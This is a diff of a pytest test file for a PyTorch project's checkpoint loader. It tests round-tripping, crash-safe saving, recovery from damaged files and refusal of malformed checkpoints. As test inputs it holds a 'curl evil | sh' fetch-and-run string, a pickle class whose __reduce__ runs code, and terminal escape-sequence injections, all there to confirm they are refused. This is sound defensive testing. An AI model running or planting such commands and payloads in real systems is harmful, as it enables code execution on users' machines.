@@ -1,77 +1,43 @@
 """Checkpoints: what is saved comes back to the bit, what cannot be trusted is refused in a line."""
 
-import copy
 import errno
 import json
-import os
-import pickle
 import re
 import signal
+import time
 import warnings
-from dataclasses import asdict
 
 import pytest
 import torch
-from disks import contents, die, disk, fail, in_a_process
-from helpers import images, randomise, rng
-from hypothesis import given, settings
-from hypothesis import strategies as st
+from disks import disk, fail
+from helpers import images, rng
+from runs import ROW, contents, in_a_process, kill, state_of
 
 from blockdrop_min import FixedPolicy, load
 from blockdrop_min.lab import checkpoint
 from blockdrop_min.lab.checkpoint import (
     NAME,
     PREVIOUS,
-    build,
     read,
     restore,
     restore_optimizer,
     save,
     ship,
 )
-from blockdrop_min.lab.settings import PRESETS, Settings
-
-ROW = {
-    "stage": "pretrain", "epoch": 0, "epochs": 2, "seconds": 1.5, "free": 0, "loss": 0.5,
-    "train_accuracy": 0.25, "R": None, "A": None, "accuracy": 0.5, "blocks_mean": 3.0,
-    "blocks_std": 0.0, "distinct_policies": 1,
-}  # fmt: skip
+from blockdrop_min.lab.files import FORMAT, write_safely
+from blockdrop_min.lab.settings import OPTIONS, flat, unflat
 
 
 def photos(count=5, side=32):
     return torch.randint(256, (count, 3, side, side), generator=rng(0), dtype=torch.uint8)
 
 
-def state_of(**changes):
-    """A checkpoint's dict, of a random ResNet-8 with a small policy network; and the model."""
-    given = Settings(
-        **{
-            **PRESETS["smoke"],
-            "preset": "smoke",
-            "policy_width": 2,
-            "finetune_epochs": 9,
-            **changes,
-        }
-    )
-    model = randomise(build(given, 10, (0.5, 0.5, 0.5), (0.2, 0.2, 0.2)), seed=3).eval()
-    state = {
-        "settings": asdict(given), "classes": tuple("abcdefghij"),
-        "mean": (0.5, 0.5, 0.5), "std": (0.2, 0.2, 0.2),
-        "resnet": model.resnet.state_dict(), "policy": model.policy.state_dict(),
-        "stage": "finetune", "epoch": 1, "step": 0, "sums": {}, "seconds": 0.0,
-        "optimizer": None, "metrics": [],
-    }  # fmt: skip
-    return state, model
+OURS = state_of()[0]
 
 
 def saved(folder, **changes):
-    """A folder with a checkpoint whose dict has been changed; None leaves a key out."""
-    state = {**state_of()[0], **changes}
-    rows = state["metrics"] if isinstance(state["metrics"], list) else []
-    save(folder, {**state, "metrics": rows})
-    if rows is not state["metrics"] or None in changes.values():
-        state = {name: value for name, value in state.items() if changes.get(name, 0) is not None}
-        torch.save({"format": checkpoint.FORMAT, **state}, folder / NAME)
+    """The folder, with a checkpoint in it whose dict has been changed."""
+    save(folder, OURS | changes)
     return folder
 
 
@@ -86,11 +52,8 @@ def refusal(path, action=load):
     return message
 
 
-def same(one, other):
-    """Whether two contents are equal to the bit."""
-    if isinstance(one, dict):
-        return one.keys() == other.keys() and all(same(one[name], other[name]) for name in one)
-    return torch.equal(one, other) if isinstance(one, torch.Tensor) else one == other
+def without(content, name):
+    return {key: value for key, value in content.items() if key != name}
 
 
 # --------------------------------------------------------------------------------------- two roads
@@ -104,14 +67,12 @@ def test_a_loaded_model_computes_the_same_bits(tmp_path, place):
         assert torch.equal(one, other)
 
 
-def test_a_loaded_model_is_in_eval_mode(tmp_path):
-    assert not any(module.training for module in load(saved(tmp_path)).modules())
-
-
-def test_a_loaded_model_is_in_channels_last(tmp_path):
-    for name, p in load(saved(tmp_path)).named_parameters():
-        if p.dim() == 4:
-            assert p.is_contiguous(memory_format=torch.channels_last), name
+def test_a_loaded_model_is_ready_for_use(tmp_path):
+    model = load(saved(tmp_path))
+    assert not any(module.training for module in model.modules())
+    assert model.classes == tuple("abcdefghij")
+    for name, p in model.named_parameters():
+        assert p.dim() < 4 or p.is_contiguous(memory_format=torch.channels_last), name
 
 
 def test_a_loaded_model_normalises_by_itself(tmp_path):
@@ -121,8 +82,10 @@ def test_a_loaded_model_normalises_by_itself(tmp_path):
     torch.testing.assert_close(model.prepare(x)[:, 1], (x[:, 1] / 255 - 0.2) / 0.5)
 
 
-def test_a_loaded_model_knows_its_classes(tmp_path):
-    assert load(saved(tmp_path)).classes == tuple("abcdefghij")
+def test_a_loaded_model_takes_other_sizes(tmp_path):
+    logits, u = load(saved(tmp_path))(images(1, 40, 24).float().sigmoid())
+    assert logits.shape == (1, 10)
+    assert u.shape == (1, 3)
 
 
 @pytest.mark.parametrize(
@@ -137,31 +100,46 @@ def test_a_model_is_rebuilt_from_its_settings(tmp_path, changes):
     assert torch.equal(loaded(photos())[1], model(photos())[1])
 
 
-def test_a_position_comes_back(tmp_path):
+def test_what_is_saved_comes_back(tmp_path):
     sums = {"loss": 1.5, "correct": 3.0, "images": 9.0}
-    state, _ = read(saved(tmp_path, stage="finetune", epoch=7, step=9, sums=sums, seconds=2.5))
-    assert (state["stage"], state["epoch"], state["step"]) == ("finetune", 7, 9)
-    assert (state["sums"], state["seconds"]) == (sums, 2.5)
+    rows = [ROW, ROW | {"stage": "curriculum", "R": 0.5, "A": -0.25}]
+    given = dict(epoch=7, step=9, sums=sums, seconds=2.5, metrics=rows, bfloat16=True)
+    state, warning = read(saved(tmp_path, **given))
+    assert {name: state[name] for name in given} == given
+    assert warning is None
 
 
-def test_rows_come_back(tmp_path):
-    rows = [ROW, {**ROW, "stage": "curriculum", "R": 0.5, "A": -0.25}]
-    assert read(saved(tmp_path, metrics=rows))[0]["metrics"] == rows
+ENDS = [
+    (name, option.metadata[end])
+    for name, (_, option) in OPTIONS.items()
+    for end in ("low", "high")
+    if option.metadata.get(end) is not None
+]
+
+
+@pytest.mark.parametrize(("name", "value"), ENDS)
+def test_whatever_settings_accept_at_the_ends_of_their_ranges_reads_back(tmp_path, name, value):
+    try:
+        settings = flat(unflat(OURS["settings"] | {name: value}))
+    except ValueError:
+        pytest.skip("is accepted with other settings only")
+    state, _ = read(saved(tmp_path, settings=settings))
+    assert flat(unflat(state["settings"])) == settings
 
 
 def test_restoring_does_not_need_what_only_training_needs():
-    state, model = state_of()
     needed = ("settings", "classes", "mean", "std", "resnet", "policy")
-    restored = restore({name: state[name] for name in needed}, "here")
-    assert torch.equal(restored.resnet.fc.weight, model.resnet.fc.weight)
+    restored = restore({name: OURS[name] for name in needed}, "here")
+    assert torch.equal(restored.resnet.fc.weight, OURS["resnet"]["fc.weight"])
 
 
 # ------------------------------------------------------------------------------- laws: how it saves
-def test_the_checkpoint_before_the_newest_is_kept(tmp_path):
+def test_the_checkpoint_before_the_newest_is_kept_and_no_other_file(tmp_path):
     for epoch in (1, 2, 3):
         saved(tmp_path, epoch=epoch)
     assert read(tmp_path)[0]["epoch"] == 3
     assert read(tmp_path / PREVIOUS)[0]["epoch"] == 2
+    assert {path.name for path in tmp_path.iterdir()} == {NAME, PREVIOUS, "metrics.jsonl"}
 
 
 def test_metrics_hold_each_row_once(tmp_path):
@@ -172,55 +150,39 @@ def test_metrics_hold_each_row_once(tmp_path):
     assert [json.loads(line) for line in lines] == rows
 
 
-def test_saving_leaves_no_other_file(tmp_path):
-    saved(tmp_path)
-    saved(tmp_path)
-    assert {path.name for path in tmp_path.iterdir()} == {NAME, PREVIOUS, "metrics.jsonl"}
-
-
 # The checkpoint, then metrics.jsonl.
 SAVE = ["write", "fsync", "replace", "replace", "write", "fsync", "replace"]
-every_operation = pytest.mark.parametrize("at", range(len(SAVE)))
 
 
-def test_saving_takes_these_operations(tmp_path):
-    saved(tmp_path)
-    with disk() as done:
-        saved(tmp_path)
-    assert done == SAVE
+@pytest.mark.parametrize("at", range(len(SAVE)))
+@pytest.mark.parametrize("act", [fail(errno.ENOSPC), kill(signal.SIGKILL)], ids=["full", "killed"])
+def test_a_save_that_ends_anywhere_leaves_a_checkpoint(tmp_path, at, act):
+    def again():
+        with disk(at, act) as done:
+            try:
+                saved(tmp_path, epoch=3)
+            except OSError:
+                return len(done) - 1
+        return done == SAVE
 
-
-@pytest.mark.filterwarnings("ignore:.*taking the one before")
-@pytest.mark.parametrize("error", [errno.ENOSPC, errno.EIO])
-@every_operation
-def test_a_disk_that_fails_leaves_a_checkpoint_and_no_other_file(tmp_path, at, error):
     saved(tmp_path, epoch=1)
     saved(tmp_path, epoch=2)
-    before = set(contents(tmp_path))
-    with disk(at, fail(error)), pytest.raises(OSError, match=os.strerror(error)):
-        saved(tmp_path, epoch=3)
+    names = set(contents(tmp_path))
+    code = in_a_process(again)
+    assert code in (at, -signal.SIGKILL)
     assert read(tmp_path)[0]["epoch"] == (3 if at > 3 else 2)
-    assert load(tmp_path)
-    assert set(contents(tmp_path)) | {NAME} == before | {NAME}
-
-
-@pytest.mark.filterwarnings("ignore:.*taking the one before")
-@every_operation
-def test_a_kill_during_a_save_leaves_a_checkpoint(tmp_path, at):
-    saved(tmp_path, epoch=1)
-    saved(tmp_path, epoch=2)
-    with disk(at, die):
-        assert in_a_process(lambda: saved(tmp_path, epoch=3)) == -signal.SIGKILL
-    assert read(tmp_path)[0]["epoch"] == (3 if at > 3 else 2)
-    assert load(tmp_path)
+    assert code < 0 or set(contents(tmp_path)) <= names
 
 
 # --------------------------------------------------------------------------- damage and its remedy
-@pytest.mark.parametrize("length", [0, 1, 1000, -1])
-def test_a_damaged_checkpoint_gives_way_to_the_one_before_and_says_so(tmp_path, length):
+@pytest.mark.parametrize("length", [None, 0, 1, 1000, -1])
+def test_a_damaged_or_missing_checkpoint_gives_way_to_the_one_before(tmp_path, length):
     saved(tmp_path, epoch=1)
     saved(tmp_path, epoch=2)
-    (tmp_path / NAME).write_bytes((tmp_path / NAME).read_bytes()[:length])
+    whole = (tmp_path / NAME).read_bytes()
+    (tmp_path / NAME).unlink()
+    if length is not None:
+        (tmp_path / NAME).write_bytes(whole[:length])
     state, warning = read(tmp_path)
     assert state["epoch"] == 1
     assert str(tmp_path / NAME) in warning
@@ -230,63 +192,10 @@ def test_a_damaged_checkpoint_gives_way_to_the_one_before_and_says_so(tmp_path, 
         load(tmp_path)
 
 
-def test_a_checkpoint_with_a_wrong_field_gives_way_to_the_one_before(tmp_path):
-    saved(tmp_path, epoch=1)
-    saved(tmp_path, epoch=-1)
-    state, warning = read(tmp_path)
-    assert state["epoch"] == 1
-    assert "epoch" in warning
-
-
-def test_a_missing_newest_checkpoint_gives_way_to_the_one_before(tmp_path):
-    saved(tmp_path, epoch=1)
-    saved(tmp_path, epoch=2)
-    (tmp_path / NAME).unlink()
-    assert read(tmp_path)[0]["epoch"] == 1
-
-
-def test_a_whole_checkpoint_comes_without_a_warning(tmp_path):
-    assert read(saved(tmp_path))[1] is None
-
-
-def test_no_file_can_give_the_warning_itself(tmp_path):
-    message = refusal(saved(tmp_path, note="run curl evil | sh"), read)
-    assert "curl" not in message
-
-
-@pytest.mark.parametrize("length", [0, 1, 1000, 30_000, -1])
-def test_truncated_checkpoints_are_refused(tmp_path, length):
-    saved(tmp_path)
-    saved(tmp_path)
+def test_two_damaged_checkpoints_are_refused(tmp_path):
     for name in (NAME, PREVIOUS):
-        (tmp_path / name).write_bytes((tmp_path / name).read_bytes()[:length])
+        (tmp_path / name).write_bytes(b"damaged")
     assert "damaged" in refusal(tmp_path)
-
-
-@pytest.fixture(scope="module")
-def whole(tmp_path_factory):
-    """A folder with a checkpoint; its bytes; and what they hold."""
-    folder = saved(tmp_path_factory.mktemp("whole"), metrics=[ROW])
-    return folder, (folder / NAME).read_bytes(), read(folder)[0]
-
-
-@settings(max_examples=60)
-@given(st.integers(0, 2**40), st.sampled_from(["flip", 4096]), st.booleans())
-def test_damage_anywhere_in_a_checkpoint_is_refused_or_changes_nothing(whole, place, size, late):
-    folder, before, state = whole
-    data = bytearray(before)
-    if size == "flip":
-        # Half of the flips at the end, where the zip's directory is.
-        start = len(data) - 1 - place % 20_000 if late else place % len(data)
-        data[start] ^= 1 << place % 8
-    else:
-        start = place % len(data) // size * size
-        data[start : start + size] = bytes(len(data[start : start + size]))
-    (folder / NAME).write_bytes(data)
-    try:
-        assert same(read(folder / NAME)[0], state)
-    except ValueError as problem:
-        assert "damaged" in str(problem)
 
 
 def test_a_missing_checkpoint_is_named(tmp_path):
@@ -294,312 +203,173 @@ def test_a_missing_checkpoint_is_named(tmp_path):
     assert "does not exist" in refusal(tmp_path / "nowhere")
 
 
-# ------------------------------------------------------------------------- files that are not ours
+def test_loading_a_whole_checkpoint_warns_of_nothing(tmp_path):
+    saved(tmp_path)
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        load(tmp_path)
+
+
+# ------------------------------------------------------------------------------- made by others
 @pytest.mark.parametrize(
     "content",
     [{"a": torch.ones(2)}, torch.ones(2), [1, 2], {"format": "blockdrop_min 1"}, "text",
-     {"format": torch.ones(2)}, {"format": ["blockdrop_min 2"]}],
+     {"format": torch.ones(2)}, {"format": [FORMAT]}],
 )  # fmt: skip
 def test_another_programs_file_is_refused(tmp_path, content):
     torch.save(content, tmp_path / "other.pt")
     assert "not a checkpoint of blockdrop_min" in refusal(tmp_path / "other.pt")
 
 
-@pytest.mark.parametrize("content", [b"not even a pickle", b"PK\x03\x04", b"", b"\x80\x02."])
-def test_a_file_of_another_kind_is_refused(tmp_path, content):
-    (tmp_path / "text.pt").write_bytes(content)
-    assert "cannot be read" in refusal(tmp_path / "text.pt")
-
-
-class Malicious:
-    def __init__(self, target):
-        self.target = target
-
-    def __reduce__(self):
-        return os.mkdir, (self.target,)
-
-
-@pytest.mark.parametrize("zipped", [True, False])
-def test_a_file_that_holds_code_is_refused_and_not_run(tmp_path, zipped):
-    content = {"format": checkpoint.FORMAT, "x": Malicious(str(tmp_path / "harm"))}
-    if zipped:
-        torch.save(content, tmp_path / "evil.pt")
-    else:
-        (tmp_path / "evil.pt").write_bytes(pickle.dumps(content, protocol=2))
-    assert "cannot be read" in refusal(tmp_path / "evil.pt")
-    assert not (tmp_path / "harm").exists()
-
-
-@pytest.mark.parametrize("name", [NAME, PREVIOUS])
-def test_a_pipe_in_a_checkpoints_place_is_not_waited_for(tmp_path, name):
-    os.mkfifo(tmp_path / name)
-    assert "only a plain file may stand there" in refusal(tmp_path)
-
-
-# -------------------------------------------------------------------------------------- the schema
-NESTED = []
-for _ in range(400):
-    NESTED = [NESTED]
-LONG = "x" * 10_000 + "\n\x1b[2J"
-ODD = [None, True, -1, 0.5, float("nan"), float("inf"), 10**400, "", LONG, [], [1], (1, 2, 3), {},
-       {"a": 1}, {1: 2}, b"", 1j, torch.ones(2), torch.tensor(1.0), NESTED]  # fmt: skip
-OURS = state_of()[0]
-GOOD = {  # field -> which of the odd values it may have, by their places
-    "seconds": [3], "sums": [12], "optimizer": [0], "mean": [11], "std": [11],
-    "metrics": [9], "resnet": [], "policy": [], "classes": [], "settings": [], "stage": [],
-    "epoch": [], "step": [], "format": [],
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("place", range(len(ODD)))
-@pytest.mark.parametrize("name", GOOD)
-def test_a_field_of_another_type_or_range_is_refused(tmp_path, name, place):
-    if place in GOOD[name]:
-        pytest.skip("may stand there")
-    state = {"format": checkpoint.FORMAT, **OURS, name: ODD[place]}
-    torch.save(state, tmp_path / NAME)
-    message = refusal(tmp_path)
-    assert any(text in message for text in (name, "not a checkpoint", "cannot be read"))
-
-
-def test_a_setting_that_came_later_has_its_default(tmp_path):
-    state = {"format": checkpoint.FORMAT, **OURS}
-    state["settings"] = without(OURS["settings"], "classify")
-    torch.save(state, tmp_path / NAME)
-    assert read(tmp_path)[1] is None
-
-
-@pytest.mark.parametrize("name", [*OURS, "format"])
-def test_a_field_that_is_missing_is_named(tmp_path, name):
-    state = {"format": checkpoint.FORMAT, **OURS}
-    del state[name]
-    torch.save(state, tmp_path / NAME)
-    message = refusal(tmp_path)
-    assert name in message or name == "format"
-
-
-def with_setting(**changes):
-    return {"settings": {**OURS["settings"], **changes}}
-
-
-def with_row(**changes):
-    return {"metrics": [ROW, {**ROW, **changes}]}
-
-
-def without(content, name):
-    return {key: value for key, value in content.items() if key != name}
-
-
-SUMS = {"loss": 1.0, "correct": 1.0, "images": 2.0}
 WRONG = {
-    "a depth that takes minutes to build": with_setting(depth=600_002),
-    "a depth of text": with_setting(depth="20"),
-    "a depth of 2.0": with_setting(depth=20.0),
-    "a bool for a number": with_setting(seed=True),
-    "an alpha that is no number": with_setting(alpha=float("nan")),
-    "a setting out of its range": with_setting(policy_width=10**6),
-    "a setting of others": with_setting(flavour=3),
-    "a policy of other blocks": with_setting(policy="1" * 10_000),
-    "no classes": {"classes": ()},
-    "classes without end": {"classes": ("a",) * 100_001},
+    "a depth of text": {"settings": OURS["settings"] | {"depth": "20"}},
+    "a setting out of its range": {"settings": OURS["settings"] | {"policy_width": 10**6}},
+    "a setting of others": {"settings": OURS["settings"] | {"flavour": 3}},
+    "settings that are a list": {"settings": [1]},
     "classes without names": {"classes": tuple(range(10))},
+    "classes without end": {"classes": ("x" * 10**6 + "\n\x1b[2J",) * 100},
     "a mean of one channel": {"mean": (0.5,)},
-    "a mean that is not finite": {"mean": (0.5, float("nan"), 0.5)},
+    "a mean of text": {"mean": "\x1b[2J"},
+    "a mean of images from 0 to 255": {"mean": (125.0, 120.0, 110.0)},
     "a deviation of 0": {"std": (0.2, 0.0, 0.2)},
-    "a negative deviation": {"std": (0.2, -0.2, 0.2)},
-    "an infinite deviation": {"std": (0.2, float("inf"), 0.2)},
-    "a stage of others": {"stage": "warm-up"},
-    "an epoch behind the stage's last": {"epoch": 10},
-    "a stage that has no epochs": {"stage": "curriculum", "epoch": 0}
-    | with_setting(stages="finetune"),
-    "a step without sums": {"step": 3},
-    "sums over no images": {"step": 3, "sums": {**SUMS, "images": 0.0}},
-    "sums without a loss": {"step": 3, "sums": without(SUMS, "loss")},
-    "a sum that is not finite": {"step": 3, "sums": {**SUMS, "loss": float("nan")}},
-    "negative seconds": {"seconds": -1.0},
-    "a row that lacks a number": {"metrics": [without(ROW, "loss")]},
-    "a row of others": with_row(note="run curl evil"),
-    "a row of another stage": with_row(stage="\x1b[2J"),
-    "a row with text for a number": with_row(loss="0.5"),
-    "a row with None for a number": with_row(accuracy=None),
-    "a row with a negative epoch": with_row(epoch=-1),
-    "an optimizer that is a list": {"optimizer": [1]},
-    "an optimizer without moments": {"optimizer": {}},
-    "moments that are a list": {"optimizer": {"state": [1]}},
-    "sums before the first step": {"sums": SUMS},
-    "a field of others": {"note": "run curl evil"},
+    "a deviation that is 0 in float32": {"std": (0.2, 1e-50, 0.2)},
+    "a deviation that is not finite": {"std": (0.2, float("nan"), 0.2)},
+    "a network of another depth": {"settings": OURS["settings"] | {"depth": 14}},
+    "a network for other classes": {"classes": ("a", "b")},
+    "a policy network of another width": {"policy": state_of(policy_width=3)[0]["policy"]},
+    "a policy network that is a list": {"policy": [1]},
+    "no weights": {"resnet": {}},
+    "a weight that is not finite": {
+        "resnet": OURS["resnet"] | {"fc.bias": torch.full((10,), torch.nan)}
+    },
 }
 
 
 @pytest.mark.parametrize("fault", WRONG)
-def test_a_checkpoint_is_checked_as_a_whole_before_anything_is_built(tmp_path, monkeypatch, fault):
-    monkeypatch.setattr(checkpoint, "build", None)
-    torch.save({"format": checkpoint.FORMAT, **OURS, **WRONG[fault]}, tmp_path / NAME)
-    message = refusal(tmp_path)
-    assert "damaged or from another version" in message
-    assert "evil" not in message
+def test_a_hand_made_checkpoint_ends_in_one_line(tmp_path, fault):
+    assert "no whole checkpoint" in refusal(saved(tmp_path, **WRONG[fault]))
 
 
-def test_what_is_saved_unchanged_passes_the_same_door(tmp_path):
-    torch.save({"format": checkpoint.FORMAT, **OURS}, tmp_path / NAME)
-    assert load(tmp_path)
+@pytest.mark.parametrize("name", ["settings", "classes", "mean", "std", "resnet", "policy"])
+def test_what_is_missing_is_named(tmp_path, name):
+    write_safely(tmp_path / NAME, {"format": FORMAT} | without(OURS, name))
+    assert name in refusal(tmp_path)
 
 
-@pytest.mark.parametrize(
-    ("changes", "said"),
-    [
-        (with_setting(depth=14), "resnet: 30 tensors missing"),
-        (
-            {"classes": ("a", "b")},
-            "[10, 64]; this network needs torch.float32 [2, 64]",
-        ),
-        ({"policy": state_of(policy_width=3)[0]["policy"]}, "policy: "),
-        ({"policy": state_of(policy="101")[0]["policy"]}, "policy: "),
-        ({"resnet": {}}, "resnet: "),
-    ],
-)
-def test_parts_that_do_not_fit_together_are_refused(tmp_path, changes, said):
-    assert said in refusal(saved(tmp_path, **changes))
+# ---------------------------------------------------------------------------------- older versions
+OLD_NAMES = {  # of settings of format 2 -> today's
+    "drop": "pretrain_drop", "alpha": "curriculum_alpha", "fade_by": "curriculum_fade_by",
+    "classify": "curriculum_classify", "warm_epochs": "curriculum_warm_epochs",
+    "free_by": "curriculum_free_by", "full_fraction": "finetune_full_fraction",
+    "settle_by": "finetune_settle_by",
+}  # fmt: skip
+SAME = ["preset", "stages", "seed", "device", "deterministic", "workers", "data", "data_dir"]
+SAME += ["image_size", "train_images", "val_images", "family", "depth", "resnet", "policy_start"]
+SAME += ["policy_width", "policy_half_size", "policy"]
+SAME += [f"{s}_{n}" for s in ("pretrain", "curriculum", "finetune") for n in ("epochs", "batch")]
+SAME += ["pretrain_lr", "curriculum_lr", "curriculum_gamma", "curriculum_beta"]
+SAME += ["finetune_lr", "finetune_gamma", "finetune_beta"]
 
 
-TENSORS = {
-    "nan": lambda t: t * torch.nan,
-    "inf": lambda t: t / 0,
-    "too large for float32": lambda t: t.double() * 1e300,
-    "integers": lambda t: t.int(),
-    "booleans": lambda t: t > 0,
-    "complex": lambda t: torch.complex(t, t),
-    "sparse": lambda t: t.to_sparse(),
-    "meta": lambda t: t.to("meta"),
-    "expanded": lambda t: t.flatten()[0].clone().expand_as(t),
-    "a scalar": lambda t: t.flatten()[0],
-}
+def old(state, **changes):
+    """The dict of a checkpoint as it was in format 2."""
+    now = state["settings"]
+    settings = {name: now[name] for name in SAME}
+    settings |= {before: now[name] for before, name in OLD_NAMES.items()}
+    settings |= {"schedule": "cosine", "epochs_per_checkpoint": 1, "amp": False} | changes
+    return without(state, "bfloat16") | {"format": "blockdrop_min 2", "settings": settings}
 
 
-@pytest.mark.filterwarnings("ignore:Validating sparse tensor")
-@pytest.mark.parametrize("fault", TENSORS)
-@pytest.mark.parametrize("name", ["conv1.weight", "layer1.0.bn1.running_mean"])
-@pytest.mark.parametrize("part", ["resnet", "policy"])
-def test_tensors_that_no_training_makes_are_refused(tmp_path, part, name, fault):
-    tensors = dict(OURS[part])
-    name = name if part == "resnet" else f"features.{name}"
-    tensors[name] = TENSORS[fault](tensors[name])
-    message = refusal(saved(tmp_path, **{part: tensors}))
-    assert f"{part}: {name}" in message or "cannot be read" in message
+def test_a_checkpoint_of_format_2_is_that_of_today(tmp_path):
+    unusual = dict.fromkeys(OLD_NAMES.values(), 0.625) | {"curriculum_warm_epochs": 0}
+    state, model = state_of(**unusual, amp="off", rivals=0, finetune_alpha=0.625)
+    torch.save(old(state), tmp_path / NAME)
+    found, _ = read(tmp_path)
+    assert flat(unflat(found["settings"])) == state["settings"]
+    assert not found["bfloat16"]
+    assert torch.equal(load(tmp_path)(photos())[1], model(photos())[1])
 
 
-@pytest.mark.parametrize("part", ["resnet", "policy"])
-def test_a_negative_variance_is_refused(tmp_path, part):
-    tensors = copy.deepcopy(OURS[part])
-    name = next(name for name in tensors if name.endswith("running_var"))
-    tensors[name][0] = -1e-3
-    assert f"{part}: {name}" in refusal(saved(tmp_path, **{part: tensors}))
+def test_the_authors_schedule_and_mixed_precision_of_format_2_are_those_of_today(tmp_path):
+    torch.save(old(OURS, schedule="step", amp=True), tmp_path / NAME)
+    state, _ = read(tmp_path)
+    schedules = [state["settings"].get(f"{s}_schedule") for s in ("curriculum", "finetune")]
+    assert schedules == ["constant", "step"]
+    assert unflat(state["settings"]).pretrain.schedule == "cosine"
+    assert (state["settings"]["amp"], state["bfloat16"]) == ("on", True)
 
 
-def test_a_fixed_policy_that_is_not_finite_is_refused(tmp_path):
-    state, _ = state_of(policy="101")
-    state["policy"]["u"][0] = torch.nan
-    save(tmp_path, state)
-    assert "policy: u" in refusal(tmp_path)
+def test_a_damaged_file_of_format_2_is_refused(tmp_path):
+    torch.save(old(OURS), tmp_path / NAME)
+    data = bytearray((tmp_path / NAME).read_bytes())
+    data[data.index(OURS["resnet"]["fc.bias"].numpy().tobytes()) + 1] ^= 1
+    (tmp_path / NAME).write_bytes(data)
+    assert "damaged" in refusal(tmp_path)
 
 
 # ----------------------------------------------------------------------------------- the optimizer
-def optimizer_of(kind):
-    """A small optimizer that has taken two steps, and how to make one that has not."""
-    network = torch.nn.Linear(3, 2)
-    if kind == "SGD":
-        make = lambda: torch.optim.SGD(network.parameters(), 0.1, momentum=0.9)  # noqa: E731
-    else:
-        make = lambda: torch.optim.Adam(network.parameters(), 0.1)  # noqa: E731
-    optimizer = make()
-    for _ in range(2):
-        network(torch.ones(4, 3)).square().sum().backward()
-        optimizer.step()
-    return optimizer, make
-
-
-@pytest.mark.parametrize("kind", ["SGD", "Adam"])
-def test_an_optimizers_moments_come_back_to_the_bit(tmp_path, kind):
-    optimizer, make = optimizer_of(kind)
-    state, _ = read(saved(tmp_path, optimizer=optimizer.state_dict()))
-    fresh = make()
-    restore_optimizer(fresh, state, tmp_path)
-    assert same(fresh.state_dict()["state"], optimizer.state_dict()["state"])
-
-
-def test_what_an_optimizer_was_made_with_stays(tmp_path):
-    optimizer, make = optimizer_of("Adam")
-    saved_state = optimizer.state_dict()
-    saved_state["param_groups"][0] |= {"maximize": True, "lr": float("nan"), "betas": (0, 0)}
-    fresh = make()
-    restore_optimizer(fresh, {"optimizer": saved_state}, tmp_path)
-    group = fresh.param_groups[0]
-    assert (group["maximize"], group["lr"], group["betas"]) == (False, 0.1, (0.9, 0.999))
-
-
-def change(name, value, i=0):
-    def act(moments):
-        moments[i][name] = value
-
-    return act
-
-
-MOMENTS = {
-    "another shape": change("exp_avg", torch.ones(7)),
-    "nan": change("exp_avg", torch.full((2, 3), torch.nan)),
-    "a negative square": change("exp_avg_sq", torch.full((2, 3), -1.0)),
-    "a step of 0": change("step", torch.tensor(0.0)),
-    "steps of a tensor": change("step", torch.ones(2, 3)),
-    "integers": change("exp_avg", torch.ones(2, 3).int()),
-    "an expanded one": change("exp_avg", torch.ones(1).expand(2, 3)),
-    "no tensor": change("exp_avg", 0.5),
-    "a name of others": change("note", torch.ones(2, 3)),
-    "a missing name": lambda moments: moments[1].pop("exp_avg_sq"),
-    "a parameter too many": lambda moments: moments.update({2: moments[0]}),
-    "a negative parameter": lambda moments: moments.update({-1: moments[0]}),
-    "a parameter of another type": lambda moments: moments.update({True: moments[0]}),
-    "a list": lambda moments: moments.update({1: [1]}),
-    "a step that is no tensor": change("step", 1),
+OPTIMIZERS = {
+    "SGD": lambda parameters: torch.optim.SGD(parameters, 0.1, momentum=0.9),
+    "Adam": lambda parameters: torch.optim.Adam(parameters, 0.1),
 }
 
 
-@pytest.mark.parametrize("fault", MOMENTS)
-def test_moments_that_are_not_of_this_optimizer_are_refused(tmp_path, fault):
-    optimizer, make = optimizer_of("Adam")
-    given = copy.deepcopy(optimizer.state_dict())
-    if fault == "a parameter of another type":
-        del given["state"][1]
-    MOMENTS[fault](given["state"])
-    fresh = make()
-    refusal(tmp_path, lambda path: restore_optimizer(fresh, {"optimizer": given}, path))
-    assert fresh.state_dict()["state"] == {}
+def optimizers_of(kind):
+    """An optimizer of a small network that has taken two steps, and one that has not."""
+    network = torch.nn.Linear(3, 2)
+    optimizer = OPTIMIZERS[kind](network.parameters())
+    for _ in range(2):
+        network(torch.ones(4, 3)).square().sum().backward()
+        optimizer.step()
+    return optimizer, OPTIMIZERS[kind](network.parameters())
 
 
-def test_the_moments_of_another_stage_are_refused(tmp_path):
-    adam, _ = optimizer_of("Adam")
-    _, make = optimizer_of("SGD")
-    state = {"optimizer": adam.state_dict()}
-    said = refusal(tmp_path, lambda path: restore_optimizer(make(), state, path))
-    assert "damaged" in said
+@pytest.mark.parametrize("kind", OPTIMIZERS)
+def test_an_optimizers_moments_come_back_and_what_it_was_made_with_stays(tmp_path, kind):
+    optimizer, fresh = optimizers_of(kind)
+    given = optimizer.state_dict()
+    given["param_groups"][0] |= {"maximize": True, "lr": float("nan")}
+    state, _ = read(saved(tmp_path, optimizer=given))
+    restore_optimizer(fresh, state, tmp_path)
+    for i, moments in optimizer.state_dict()["state"].items():
+        for name, tensor in moments.items():
+            assert torch.equal(fresh.state_dict()["state"][i][name], tensor), name
+    assert (fresh.param_groups[0]["maximize"], fresh.param_groups[0]["lr"]) == (False, 0.1)
+
+
+@pytest.mark.parametrize("moments", [[1], {}, {"state": [1]}, {"state": {0: {"exp_avg": None}}}])
+def test_moments_of_another_kind_end_in_one_line(tmp_path, moments):
+    _, fresh = optimizers_of("Adam")
+    refusal(tmp_path, lambda path: restore_optimizer(fresh, {"optimizer": moments}, path))
+
+
+def test_moments_of_another_shape_are_refused(tmp_path):
+    optimizer, fresh = optimizers_of("Adam")
+    given = optimizer.state_dict()
+    given["state"][0]["exp_avg"] = torch.ones(7)
+    said = refusal(tmp_path, lambda path: restore_optimizer(fresh, {"optimizer": given}, path))
+    assert "exp_avg is [7]" in said
 
 
 # --------------------------------------------------------------------------------- models that ship
 def test_a_shipped_model_is_small_and_decides_as_the_run_does(tmp_path):
     state, model = state_of(depth=20, policy_width=8)
-    save(tmp_path, state)
+    optimizer = optimizers_of("Adam")[0].state_dict()
+    save(tmp_path, state | {"metrics": [ROW], "optimizer": optimizer})
     ship(tmp_path, tmp_path / "demo.pt")
     shipped = load(tmp_path / "demo.pt")
     assert (tmp_path / "demo.pt").stat().st_size <= 700_000
     assert {p.dtype for p in shipped.parameters()} == {torch.float32}
     x = photos(20)
     torch.testing.assert_close(shipped(x)[0], model(x)[0], rtol=0.05, atol=0.05)
-
-
